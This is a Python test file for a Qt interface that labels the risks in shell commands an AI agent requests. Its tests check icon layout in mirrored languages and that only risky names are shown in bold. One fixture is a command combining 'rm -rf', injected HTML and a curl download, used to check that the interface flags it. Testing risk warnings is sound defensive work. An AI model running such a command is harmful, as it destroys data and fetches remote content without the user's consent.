    assert path.x() == head.width() - size.mapToItem(head, QPointF(size.width(), 0)).x()


def test_the_icon_of_a_risk_is_at_the_start_of_its_words(
    open_window: OpenWindow, session: LiveSession
) -> None:
    window = open_window(session)
    session.set_requests(danger())
    for mirrored in (False, True):
        if mirrored:
            speak(window.screen, MirroredLanguage())
        window.painted()
        legend = window.item("CommandLegend")
        icons, words = items_below(legend, "Icon"), items_below(legend, "QQuickTextEdit")
        assert len(icons) == len(words) == 2
        for icon, text in zip(icons, words, strict=True):
            assert icon.x() >= text.x() + text.width() if mirrored else icon.x() + icon.width() <= text.x()


def test_the_names_of_a_risk_are_bold_and_nothing_else(open_window: OpenWindow, session: LiveSession) -> None:
    window = open_window(session)
    command = "rm -rf '<b>a</b>' \U0001f600 && curl https://fixtures.example.org/x.tar"
    session.set_requests([asked("Bash", {"command": command})])
    window.wait_for(Kind.StaticText, "Deletes files or discards changes: rm")
    window.wait_for(Kind.StaticText, "Reaches the network: curl, fixtures.example.org")
    found = []
    for item in items_below(window.item("CommandLegend"), "QQuickTextEdit"):
        owner = cast(QQuickTextDocument, item.property("textDocument"))
        document = owner.textDocument()
        cursor = QTextCursor(document)
        bold = ""
        for at in range(document.characterCount() - 1):
            cursor.setPosition(at + 1)
            if cursor.charFormat().fontWeight() == 600:
                bold += str(document.characterAt(at))
        found.append(bold)
    assert found == ["rm", "curl, fixtures.example.org"]
